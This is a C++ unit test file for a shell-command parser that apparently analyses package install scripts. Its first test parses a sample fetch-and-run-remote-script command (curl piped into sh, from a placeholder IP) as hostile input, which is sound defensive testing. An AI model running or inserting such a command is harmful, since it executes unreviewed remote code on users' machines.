#include "analyze/shell_command.h"

#include <gtest/gtest.h>

namespace airlock::analyze {
namespace {

TEST(ShellCommand, SplitsPipelinesAndCommands) {
  auto p = parse_shell("FOO=1 node install.js && curl -s http://203.0.113.7/i.sh | sh; echo done");
  ASSERT_EQ(p.size(), 3u);
  ASSERT_EQ(p[0].size(), 1u);
  EXPECT_EQ(p[0][0].words, (std::vector<std::string>{"node", "install.js"}));
  ASSERT_EQ(p[1].size(), 2u);
  EXPECT_EQ(p[1][0].words[0], "curl");
  EXPECT_FALSE(p[1][0].piped_from_previous);
  EXPECT_EQ(p[1][1].words, (std::vector<std::string>{"sh"}));
  EXPECT_TRUE(p[1][1].piped_from_previous);
  EXPECT_EQ(p[2][0].words[0], "echo");
}

TEST(ShellCommand, HonoursQuotes) {
  auto p = parse_shell(R"(node -e "try{require('./postinstall')}catch(e){}" || exit 0)");
  ASSERT_EQ(p.size(), 2u);
  EXPECT_EQ(p[0][0].words,
            (std::vector<std::string>{"node", "-e", "try{require('./postinstall')}catch(e){}"}));
  auto q = parse_shell(R"(sh -c 'echo a | b; c')");
  ASSERT_EQ(q.size(), 1u);
  EXPECT_EQ(q[0][0].words[2], "echo a | b; c");
}

TEST(ShellCommand, BoundedOnHostileInput) {
  std::string huge(1 << 20, 'a');
  for (std::size_t i = 0; i < huge.size(); i += 2) huge[i] = ' ';
  auto p = parse_shell(huge);
  std::size_t words = 0;
  for (auto& pl : p)
    for (auto& c : pl) words += c.words.size();
  EXPECT_LE(words, 4096u);
  EXPECT_TRUE(parse_shell("").empty());
  EXPECT_TRUE(parse_shell("\"unterminated").size() == 1);
}

}  // namespace
}  // namespace airlock::analyze
